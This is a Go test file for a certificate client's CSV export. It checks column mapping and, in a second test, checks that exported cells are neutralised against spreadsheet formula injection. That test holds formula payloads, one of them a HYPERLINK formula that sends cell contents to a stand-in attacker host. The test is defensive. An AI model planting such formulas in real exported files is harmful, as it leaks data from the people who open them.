package client

import (
	"strings"
	"testing"
	"time"
)

func TestCSVRow(t *testing.T) {
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("", 3600))
	c := Certificate{Serial: "ab", ClientID: "robot-1", NotBefore: at, Names: []string{"robot-1", "a.example"}}
	row := map[string]string{}
	for i, name := range CSVHeader() {
		row[name] = c.CSVRow()[i]
	}
	for name, want := range map[string]string{
		"serial": "ab", "client_id": "robot-1", "not_before": "2026-01-02T02:04:05Z", "revoked_at": "", "names": "robot-1 a.example",
	} {
		if row[name] != want {
			t.Errorf("%s: %q, want %q", name, row[name], want)
		}
	}
	if got := len(c.CSVRow()); got != len(row) {
		t.Errorf("%d cells under %d columns", got, len(row))
	}
}

func TestCSVRowHasNoFormulas(t *testing.T) {
	c := Certificate{ClientID: `=HYPERLINK("http://evil.example/?"&A1)`, Profile: "@SUM(1)", Names: []string{"+1", "x"}, RevocationReason: "-2"}
	for i, cell := range c.CSVRow() {
		if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
			t.Errorf("%s: %q begins a formula", CSVHeader()[i], cell)
		}
	}
}
